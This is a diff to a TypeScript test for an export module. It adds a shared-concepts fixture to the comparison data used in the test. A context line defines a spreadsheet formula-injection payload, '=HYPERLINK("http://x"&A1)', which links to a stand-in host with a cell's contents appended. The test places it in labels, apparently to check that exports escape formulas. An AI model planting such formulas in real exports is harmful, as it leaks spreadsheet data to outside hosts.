@@ -8,6 +8,7 @@ import { EXPORTS, type ExportKind } from '../../src/exports/exports';
 import { wholeComparison } from '../../src/exports/comparisonJson';
 import { startRun } from '../../src/runs/client';
 import { reviewOf } from '../support/review';
+import { twoInOne } from '../support/sharedConcepts';
 import { alignmentOf, comparisonOf, pair } from '../support/alignment';
 import { folderTest } from '../support/temporaryFolder';
 
@@ -65,6 +66,7 @@ const LABEL = '=HYPERLINK("http://x"&A1)';
 function sourceOf(kind: ExportKind): unknown {
   if (kind.startsWith('review')) return reviewOf(LABEL);
   const view = comparisonOf(alignmentOf(2, 1, [pair(1, 0, 0.1, 'universal')]), [0.3, 0.1], [-0.2, 0.5]);
+  view.shared = twoInOne();
   for (const side of [view.a, view.b]) {
     side.id = LABEL;
     for (const concept of side.concepts) Object.assign(concept, { name: LABEL, majorityLabel: LABEL });
